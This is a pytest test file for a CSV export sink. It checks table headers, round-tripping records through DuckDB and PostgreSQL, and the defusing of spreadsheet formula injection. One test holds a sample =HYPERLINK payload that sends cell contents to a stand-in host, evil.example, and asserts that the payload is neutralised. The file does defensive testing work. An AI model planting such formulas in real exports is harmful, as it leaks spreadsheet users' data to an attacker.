"""CSV folders: every table is there, records come back the same, and no cell is run as a formula."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import duckdb
import psycopg
import pytest
from hypothesis import HealthCheck, given, settings
from made import event, span, stories, story

from extractor.records import Percentage, Story
from extractor.sinks import get_database, open_target
from extractor.sinks.tables import TABLES, Column, Table, story_of
from extractor.sinks.targets.csv import defused

TYPES = {"text": "VARCHAR", "integer": "INTEGER", "number": "DOUBLE", "flag": "BOOLEAN", "day": "DATE"}
FORMULA = "=+-@\t\r\n＝＋－＠"


def write(folder: Path, *written: Story) -> None:
    with open_target(str(folder)) as write:
        for each in written:
            write(each)


def plain(text: str) -> str:
    """What a reader does who wants the text back."""
    return re.sub(rf"^'(?='*[{FORMULA}])", "", text)


def value(column: Column, cell: Any) -> Any:
    return plain(cell) if column.type == "text" and cell is not None else cell


def rows(folder: Path, table: Table) -> list[dict[str, Any]]:
    """The rows of a table, as DuckDB reads them when it is told the types."""
    found = duckdb.read_csv(
        str(folder / f"{table.name}.csv"),
        header=True,
        sep=",",
        quotechar='"',
        escapechar='"',
        na_values="",
        allow_quoted_nulls=False,
        dtype={column.name: TYPES[column.type] for column in table.columns},
    )
    return [
        {column.name: value(column, cell) for column, cell in zip(table.columns, cells, strict=True)}
        for cells in found.fetchall()
    ]


def test_postgresql_copies_it_into_its_tables(tmp_path: Path, new_postgresql: Callable[[], str]) -> None:
    url = new_postgresql()
    written = [
        story("a", event("e1"), event("e2", cue=span("")), title=""),
        story("b", title='He said "no",\nand left.'),
    ]
    write(tmp_path / "events.csv", *written)
    with open_target(url):
        pass
    with closing(psycopg.connect(url, autocommit=True)) as connection:
        for name in TABLES:
            with connection.cursor().copy(f"COPY {name} FROM STDIN (FORMAT csv, HEADER MATCH)") as copy:
                copy.write((tmp_path / "events.csv" / f"{name}.csv").read_bytes())
    assert list(get_database(url).read(url)) == written


def test_every_table_is_a_file_with_a_header(tmp_path: Path) -> None:
    write(tmp_path / "events.csv", story("a", event()))
    assert {path.stem for path in (tmp_path / "events.csv").iterdir()} == set(TABLES)
    for name, table in TABLES.items():
        with (tmp_path / "events.csv" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            assert next(csv.reader(file)) == [column.name for column in table.columns]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(stories())
def test_a_record_comes_back_the_same(tmp_path: Path, story: Story) -> None:
    alone = story.model_copy(update={"corrects": ()})
    write(tmp_path / "events.csv", alone)
    assert story_of({name: rows(tmp_path / "events.csv", table) for name, table in TABLES.items()}) == alone


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Duties", "Duties"),
        ("U.S.-Japan", "U.S.-Japan"),
        ("'Duties'", "'Duties'"),
        ("'=1+1", "''=1+1"),
        *((f"{sign}1+1", f"'{sign}1+1") for sign in FORMULA),
    ],
)
def test_formulas_are_defused_and_the_text_can_be_had_back(text: str, cell: str) -> None:
    assert defused(text) == cell
    assert plain(cell) == text


def test_a_formula_of_a_story_reaches_no_spreadsheet(tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Duties, ""new""")'
    write(tmp_path / "events.csv", story("a", title=attack))
    with (tmp_path / "events.csv" / "stories.csv").open(encoding="utf-8", newline="") as file:
        [row] = csv.DictReader(file)
    assert row["title"] == f"'{attack}"


def test_a_negative_number_is_no_formula(tmp_path: Path) -> None:
    fall = Percentage(value=-5.25, mention=span("down 5.25%"))
    write(tmp_path / "events.csv", story("a", percentages=(fall,)))
    assert (tmp_path / "events.csv" / "percentages.csv").read_text().splitlines()[1] == (
        '"a",0,-5.25,,,"percent",,"down 5.25%",0,10'
    )
